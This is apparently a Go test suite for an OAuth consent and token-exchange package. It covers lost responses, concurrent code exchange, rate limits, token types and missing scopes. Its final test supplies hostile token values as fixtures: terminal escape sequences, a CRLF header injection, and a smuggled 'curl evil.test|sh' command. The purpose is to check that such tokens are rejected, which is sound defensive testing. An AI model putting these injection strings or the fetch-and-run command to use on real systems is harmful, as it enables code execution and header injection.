package consent_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/oauth2"

	"deskward/core"
	"deskward/core/transport/loopbacktest"
)

// TestLostAnswersAreUnknownAndNeverRepeated covers what may have used up the code.
func TestLostAnswersAreUnknownAndNeverRepeated(t *testing.T) {
	t.Parallel()
	cut := func(w http.ResponseWriter, body string) {
		conn, buf, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		fmt.Fprintf(buf, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 500\r\n\r\n%s", body)
		buf.Flush()
		conn.Close()
	}
	cases := map[string]func(w http.ResponseWriter, r *http.Request) bool{
		"status 500": func(w http.ResponseWriter, _ *http.Request) bool {
			http.Error(w, "canary-secret in a body", http.StatusInternalServerError)
			return true
		},
		"cut body":  func(w http.ResponseWriter, _ *http.Request) bool { cut(w, `{"access_token":"canary-`); return true },
		"no answer": func(w http.ResponseWriter, _ *http.Request) bool { panic(http.ErrAbortHandler) },
		"a page": func(w http.ResponseWriter, _ *http.Request) bool {
			fmt.Fprint(w, "<html>canary</html>")
			return true
		},
		"not JSON": func(w http.ResponseWriter, _ *http.Request) bool { fmt.Fprint(w, `{"access_token":`); return true },
		"no token": func(w http.ResponseWriter, _ *http.Request) bool {
			fmt.Fprint(w, `{"token_type":"Bearer"}`)
			return true
		},
	}
	for name, fault := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			b := start(t)
			c := b.connection()
			a := b.begin(c)
			b.vendor.set(func(v *vendor) { v.fault = fault })
			to := b.vendor.agree(t, a.URL).String()
			_, err := b.Answer(context.Background(), a.ID, to)
			want(t, err, "consent.exchange-unknown", core.Unknown)

			b.vendor.set(func(v *vendor) { v.fault = nil })
			b.clock.forward(core.LeaseTime)
			_, err = b.session().Answer(context.Background(), a.ID, to)
			want(t, err, "consent.exchange-unknown", core.Unknown)
			if n, _ := b.vendor.counts(); n != 1 {
				t.Errorf("the code was sent %d times", n)
			}
			_, err = b.Pending(context.Background(), c.ID)
			want(t, err, "consent.exchange-unknown", core.Unknown)
			b.begin(c) // is the way on
		})
	}
}

func TestAnAnswerTakenByAClockThatWasWrongHoldsNoConsentUp(t *testing.T) {
	t.Parallel()
	b := start(t)
	c := b.connection()
	b.clock.forward(24 * time.Hour)
	a := b.begin(c)
	to := b.vendor.agree(t, a.URL).String()
	b.vendor.set(func(v *vendor) {
		v.fault = func(http.ResponseWriter, *http.Request) bool { panic(http.ErrAbortHandler) } // the session dies with its answer
	})
	_, err := b.session().Answer(context.Background(), a.ID, to)
	want(t, err, "consent.exchange-unknown", core.Unknown)
	b.clock.forward(-24 * time.Hour) // the clock is put right
	b.begin(c)
}

func TestAnswerThatCertainlyDidNothingMayBeGivenAgain(t *testing.T) {
	t.Parallel()
	b := start(t)
	a := b.begin(b.connection())
	to := b.vendor.agree(t, a.URL).String()

	right := b.cfg.TokenURL
	b.cfg.TokenURL = "http://127.0.0.1:" + strconv.Itoa(loopbacktest.FreePort(t)) + "/token" // nobody listens
	b.cfg.Hosts = append(b.cfg.Hosts, strings.Split(b.cfg.TokenURL, "/")[2])
	_, err := b.Answer(context.Background(), a.ID, to)
	want(t, err, "net.refused", core.Failed)

	b.cfg.TokenURL = right
	b.vendor.set(func(v *vendor) {
		v.fault = func(w http.ResponseWriter, _ *http.Request) bool {
			w.Header().Set("Retry-After", "17")
			http.Error(w, "slow down", http.StatusTooManyRequests)
			return true
		}
	})
	_, err = b.Answer(context.Background(), a.ID, to)
	want(t, err, "oauth.rate-limited", core.Failed)
	if e, _ := errors.AsType[*core.Error](err); e.Params["seconds"] != "17" {
		t.Errorf("params %v", e.Params)
	}

	b.vendor.set(func(v *vendor) { v.fault = nil })
	if _, err := b.Answer(context.Background(), a.ID, to); err != nil {
		t.Fatal(err)
	}
}

// TestAnswersAtOnceAreExchangedOnce races browser and pastes, in one session
// and in another.
func TestAnswersAtOnceAreExchangedOnce(t *testing.T) {
	t.Parallel()
	b := start(t)
	c := b.connection()
	a := b.begin(c)
	l := b.listen(a)
	other := b.session()
	to := b.vendor.agree(t, a.URL).String()
	var wg sync.WaitGroup
	for i := range 12 {
		wg.Go(func() {
			switch i % 3 {
			case 0:
				resp, err := http.Get(to)
				if err != nil {
					t.Error(err)
					return
				}
				resp.Body.Close()
			case 1:
				if _, err := b.Answer(context.Background(), a.ID, to); err != nil && core.CodeOf(err) != "consent.ended" {
					t.Error(err)
				}
			case 2:
				if _, err := other.Answer(context.Background(), a.ID, to); err != nil && core.CodeOf(err) != "consent.ended" {
					t.Error(err)
				}
			}
		})
	}
	wg.Wait()
	if n, _ := b.vendor.counts(); n != 1 {
		t.Errorf("the code was exchanged %d times", n)
	}
	if _, err := l.Wait(context.Background()); err != nil {
		t.Error(err)
	}
}

// TestRightAnswerIsNotLostBehindAWrongPaste: a wrong code is being turned away
// while the browser brings the right one.
func TestRightAnswerIsNotLostBehindAWrongPaste(t *testing.T) {
	t.Parallel()
	b := start(t)
	a := b.begin(b.connection())
	b.listen(a)
	arrived, release := make(chan struct{}), make(chan struct{})
	b.vendor.set(func(v *vendor) {
		v.fault = func(_ http.ResponseWriter, r *http.Request) bool {
			if r.PostForm.Get("code") == "canary-wrong-code" {
				close(arrived)
				<-release
			}
			return false
		}
	})
	var wg sync.WaitGroup
	wg.Go(func() {
		_, err := b.Answer(context.Background(), a.ID, "canary-wrong-code")
		want(t, err, "consent.paste-refused", core.Refused)
	})
	<-arrived
	wg.Go(func() {
		if status, body, _ := fetch(t, b.vendor.agree(t, a.URL).String()); status != http.StatusOK {
			t.Errorf("page: %d %s", status, body)
		}
	})
	close(release)
	wg.Wait()
}

func TestMissingScopesAreTold(t *testing.T) {
	t.Parallel()
	b := start(t)
	b.vendor.scope = "contacts.read profile"
	a := b.begin(b.connection())
	res, err := b.Answer(context.Background(), a.ID, b.vendor.agree(t, a.URL).String())
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(res.Missing, []string{"tickets.read"}) || !slices.Equal(res.Connection.Granted, []string{"contacts.read", "profile"}) {
		t.Errorf("missing %v, granted %v", res.Missing, res.Connection.Granted)
	}
}

func TestLifetimeAndRegionAreThePlatforms(t *testing.T) {
	t.Parallel()
	b := start(t)
	b.vendor.lifetime = 3600000 // milliseconds
	b.vendor.extra = map[string]any{"refresh_token_expires_in": "86400"}
	b.cfg.Lifetime = func(tok *oauth2.Token) time.Duration {
		ms, _ := tok.Extra("expires_in").(float64)
		return time.Duration(ms) * time.Millisecond
	}
	b.cfg.TokenURLFor = func(answer url.Values) (string, string, error) {
		if answer.Get("location") != "eu" {
			return "", "", &core.Error{Code: "acme.untrusted", Class: core.Refused}
		}
		return b.cfg.TokenURL, "eu", nil
	}
	a := b.begin(b.connection())
	to := b.vendor.agree(t, a.URL).String()
	res, err := b.Answer(context.Background(), a.ID, to+"&location=eu")
	if err != nil {
		t.Fatal(err)
	}
	c := res.Connection
	if life := c.AccessExpires.Sub(c.GrantedAt).Round(time.Minute); life != time.Hour || c.Region != "eu" {
		t.Errorf("lives %v in %q", life, c.Region)
	}
	if ends := c.EndsAt.Sub(c.GrantedAt).Round(time.Minute); ends != 24*time.Hour {
		t.Errorf("refresh token ends after %v", ends)
	}
	a = b.begin(c)
	_, err = b.Answer(context.Background(), a.ID, b.vendor.agree(t, a.URL).String()+"&location=evil")
	want(t, err, "acme.untrusted", core.Refused)
}

func TestPublicClientNamesItselfInTheBody(t *testing.T) {
	t.Parallel()
	b := start(t)
	b.cfg.ClientSecret, b.cfg.AuthStyle = core.Secret{}, oauth2.AuthStyleInHeader
	b.granted()
	form := b.vendor.forms[0]
	if form.Get("client_id") != "client-1" || form.Has("client_secret") || form.Get("code_verifier") == "" {
		t.Errorf("form %v", form)
	}
}

func TestCodeIsNeverSentTwiceToFindTheAuthStyle(t *testing.T) {
	t.Parallel()
	b := start(t) // AuthStyle is 0, which x/oauth2 would try out
	a := b.begin(b.connection())
	to := b.vendor.agree(t, a.URL)
	q := to.Query()
	q.Set("code", "canary-code-x")
	to.RawQuery = q.Encode()
	_, err := b.Answer(context.Background(), a.ID, to.String())
	want(t, err, "oauth.invalid_grant", core.Refused)
	if n, _ := b.vendor.counts(); n != 1 {
		t.Errorf("the code was sent %d times", n)
	}
}

// TestTokensOfAnotherTypeAreRefused: RFC 6749 §7.1 forbids using a type that
// one does not understand.
func TestTokensOfAnotherTypeAreRefused(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		said    any
		allowed []string
		code    string
	}{
		{"Bearer", nil, ""},
		{"bearer", nil, ""},
		{nil, nil, ""},
		{"DPoP", nil, "oauth.token-type"},
		{"mac", []string{"Acme-token"}, "oauth.token-type"},
		{"acme-TOKEN", []string{"Acme-token"}, ""},
	} {
		t.Run(fmt.Sprint(tc.said, tc.allowed), func(t *testing.T) {
			t.Parallel()
			b := start(t)
			c := b.granted()
			b.cfg.TokenTypes = tc.allowed
			b.vendor.set(func(v *vendor) { v.extra = map[string]any{"token_type": tc.said} })
			class := core.Failed
			if tc.code != "" {
				class = core.Refused
			}
			_, err := b.Refresh(context.Background(), c.ID)
			want(t, err, tc.code, class)
			a := b.begin(c)
			_, err = b.Answer(context.Background(), a.ID, b.vendor.agree(t, a.URL).String())
			want(t, err, tc.code, class)
		})
	}
}

// A token is printed for scripts, pasted and put into headers as it is.
func TestATokenThatWouldActOnATerminalIsThrownAway(t *testing.T) {
	t.Parallel()
	for name, answer := range map[string]map[string]any{
		"an escape":          {"access_token": "a\x1b]52;c;ZXZpbA==\x07"},
		"a header":           {"access_token": "a\r\nX-Evil: 1"},
		"a command":          {"access_token": "a\ncurl evil.test|sh\n"},
		"another direction":  {"access_token": "a\u202eb"},
		"one byte of C1":     {"access_token": "a\u009bb"},
		"to renew with":      {"access_token": "fine", "refresh_token": "a\nb"},
		"to renew with, DEL": {"access_token": "fine", "refresh_token": "a\x7fb"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			b := start(t)
			answer["token_type"] = "Bearer"
			b.vendor.set(func(v *vendor) {
				v.fault = func(w http.ResponseWriter, _ *http.Request) bool {
					w.Header().Set("Content-Type", "application/json")
					json.NewEncoder(w).Encode(answer) //nolint:errcheck // the answer is read by this test
					return true
				}
			})
			c := b.connection()
			a := b.begin(c)
			_, err := b.Answer(context.Background(), a.ID, b.vendor.agree(t, a.URL).String())
			want(t, err, "oauth.token-malformed", core.Refused)
			c, getErr := b.Connections.Get(context.Background(), c.ID)
			if getErr != nil || !c.Secrets[core.SecretAccessToken].Empty() || !c.Secrets[core.SecretRefreshToken].Empty() {
				t.Errorf("it was kept: %v %v", c.Secrets, getErr)
			}
		})
	}
}
